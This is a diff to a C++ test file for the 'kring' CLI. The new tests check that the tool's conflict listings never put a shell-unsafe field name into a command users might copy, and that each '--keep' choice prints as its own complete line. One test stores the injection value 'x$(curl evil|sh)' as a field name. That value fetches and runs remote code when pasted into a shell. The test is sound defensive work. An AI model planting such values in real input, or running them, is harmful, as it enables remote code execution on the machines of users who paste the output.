@@ -9,6 +9,7 @@
 #include <iterator>
 #include <regex>
 #include <set>
+#include <sstream>
 #include <string>
 #include <utility>
 
@@ -1390,10 +1391,54 @@ TEST_CASE("write commands print JSON with --json, and conflicts show labels, not
   CHECK(dutch.out.find("\"tante van moederskant\"") != std::string::npos);
   // The stored names only in the command that resolves it, which works as shown.
   const std::string resolve = "kring conflicts resolve --entity " + ria + " --field relation";
-  CHECK(dutch.out.find(resolve + " --keep current|other") != std::string::npos);
+  // One complete line per choice: "--keep current|other" pasted into a shell is a pipe.
+  CHECK(dutch.out.find("--keep current|other") == std::string::npos);
+  CHECK(dutch.out.find("      " + resolve + " --keep current\n") != std::string::npos);
+  CHECK(dutch.out.find("      " + resolve + " --keep other\n") != std::string::npos);
   Run english = k.As("sanne", "--lang en conflicts");
   CHECK(english.out.find("person in the circle Ria (" + ria + "): relation to the resident") !=
         std::string::npos);
   k.Ok("sanne", resolve.substr(6) + " --keep current");
   CHECK(k.Json("sanne", "conflicts").list_value().values_size() == 0);
+}
+
+TEST_CASE("a field name that is not safe in a shell never goes into a command to copy", "[cli]") {
+  TestServer server;
+  TempDir dir;
+  People k(server, dir);
+  k.Id("sanne", "account create", "account");
+  const std::string fatima = k.Id("fatima", "account create", "account");
+  const std::string cid =
+      At(k.Json("sanne", "case create " + fatima + ":coordinator"), "id").string_value();
+  REQUIRE(cid.size() == 32);
+  const std::string note =
+      At(k.Json("sanne", "entity create " + cid + " notitie"), "id").string_value();
+  REQUIRE(note.size() == 32);
+  k.Ok("fatima", "sync");
+  // Any member can write any field name: this one runs a download when pasted into a shell.
+  const std::string field = "x$(curl evil|sh)";
+  k.Ok("sanne", "field set " + cid + " " + note + " '" + field + "' een");
+  k.Ok("fatima", "field set " + cid + " " + note + " '" + field + "' twee");
+  k.Ok("sanne", "sync");
+  const Value open = k.Json("sanne", "conflicts");
+  REQUIRE(open.list_value().values_size() == 1);
+  CHECK(At(open.list_value().values(0), "field").string_value() == field);  // scripts get it
+  for (const char* lang : {"", "--lang en "}) {
+    Run shown = k.As("sanne", std::string(lang) + "conflicts");
+    INFO(shown.all);
+    REQUIRE(shown.exit_code == 0);
+    // The name may be shown as the field's label, never in a line with a command.
+    std::istringstream lines(shown.out);
+    for (std::string line; std::getline(lines, line);) {
+      if (line.find("kring ") == std::string::npos) continue;
+      CHECK(line.find("$(") == std::string::npos);
+      CHECK(line.find("curl") == std::string::npos);
+    }
+    CHECK(shown.out.find("kring conflicts --json") != std::string::npos);
+    const std::string name = *lang == '\0' ? "VELD" : "FIELD";
+    for (const char* keep : {"current", "other"}) {
+      CHECK(shown.out.find("kring conflicts resolve --entity " + note + " --field " + name +
+                           " --keep " + keep + "\n") != std::string::npos);
+    }
+  }
 }
